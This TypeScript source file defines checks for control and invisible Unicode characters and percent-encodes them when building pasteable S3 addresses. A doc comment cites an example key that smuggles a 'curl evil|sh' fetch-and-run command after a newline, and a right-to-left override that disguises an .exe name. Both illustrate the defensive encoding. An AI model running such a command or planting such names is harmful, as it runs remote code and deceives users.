import type { ObjectRef } from '../../common/ipc';

/**
 * Characters that must not pass into a local file name or a pasted address
 * as they are. Tested by code point rather than by a regular expression, so
 * that no control character has to be written into a pattern.
 */

/** C0 and C1 controls and DEL: NUL ends a path in C, a newline pasted into a shell runs what follows. */
export function isControlCharacter(codePoint: number): boolean {
  return codePoint <= 0x1f || (codePoint >= 0x7f && codePoint <= 0x9f);
}

/**
 * Characters that draw nothing yet change what text looks like: bidi marks,
 * embeddings, overrides and isolates (U+061C, U+200E–200F, U+202A–202E,
 * U+2066–2069), zero-width space, joiners and marks (U+200B–200D, U+2060,
 * U+FEFF), and the line and paragraph separators (U+2028–2029).
 */
export function isInvisibleCharacter(codePoint: number): boolean {
  return (
    codePoint === 0x061c ||
    (codePoint >= 0x200b && codePoint <= 0x200f) ||
    (codePoint >= 0x2028 && codePoint <= 0x202e) ||
    codePoint === 0x2060 ||
    (codePoint >= 0x2066 && codePoint <= 0x2069) ||
    codePoint === 0xfeff
  );
}

/** `text` with every character `matches` picks replaced by what `replace` gives for it. */
export function replaceCharacters(text: string, matches: (codePoint: number) => boolean, replace: (character: string) => string): string {
  let out = '';
  for (const character of text) out += matches(character.codePointAt(0)!) ? replace(character) : character;
  return out;
}

/**
 * The s3:// address as it is safe to paste or show: control and invisible
 * characters become %XX (their UTF-8 bytes), so "x\ncurl evil|sh\n" stays one
 * line and "a\u202Etxt.exe" shows its real order. Everything else stays as
 * the key has it, spaces, "%" and non-Latin letters included, as the S3
 * console copies keys; so only a key holding such characters gets an address
 * that differs from its key (and that the AWS CLI would not find as written).
 */
export function printableS3Uri(ref: ObjectRef): string {
  const unsafe = (codePoint: number) => isControlCharacter(codePoint) || isInvisibleCharacter(codePoint);
  return replaceCharacters(`s3://${ref.bucket}/${ref.key}`, unsafe, encodeURIComponent);
}
